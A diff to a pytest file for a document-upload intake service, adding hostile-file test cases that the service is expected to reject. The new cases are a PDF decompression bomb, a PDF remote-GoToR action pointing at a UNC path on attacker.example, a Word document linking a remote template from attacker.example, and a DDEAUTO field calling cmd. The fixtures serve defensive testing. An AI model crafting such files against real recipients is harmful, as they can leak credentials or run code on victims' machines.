@@ -4,6 +4,7 @@ that says what to send instead, and nothing of them kept."""
 import re
 
 import pytest
+from pypdf.generic import TextStringObject
 
 from intake import services
 from intake.models import Draft, DraftDocument
@@ -38,6 +39,25 @@ HOSTILE = [
         "other files or objects inside it",
     ),
     ("photo.png", lambda: documents.png(100_000, 100_000), "120 million pixels"),
+    # 68 KB that inflate to 70 MB inside the PDF: refused at once, not parsed for seconds.
+    ("letter.pdf", documents.pdf_with_object_stream_bomb, "too complex for us to check"),
+    (
+        "letter.pdf",
+        lambda: documents.pdf_with_action(
+            documents._action("/GoToR", F=TextStringObject("\\\\attacker.example\\x.pdf"))
+        ),
+        "contains a program",
+    ),
+    (
+        "letter.docx",
+        lambda: documents.docx_linking("attachedTemplate", "https://attacker.example/t.dotm"),
+        "other files or objects inside it",
+    ),
+    (
+        "letter.docx",
+        lambda: documents.docx(document=documents.word_body(documents.field("DDEAUTO cmd"))),
+        "other files or objects inside it",
+    ),
 ]
 
 
